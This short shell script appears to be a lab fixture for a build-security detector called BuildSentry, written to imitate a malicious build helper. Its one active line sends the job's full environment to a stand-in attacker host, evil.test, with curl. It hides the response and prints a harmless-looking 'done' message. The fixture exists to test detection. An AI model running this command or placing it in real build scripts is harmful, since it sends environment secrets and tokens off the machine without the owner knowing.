#!/bin/sh
# The lab's stand-in for a malicious build helper: it ships the job's environment to evil.test,
# the pattern BuildSentry exists to catch. It only ever reaches the lab's own namespace.
env | curl -s --max-time 10 --data-binary @- http://evil.test/collect >/dev/null
echo "helper: done"
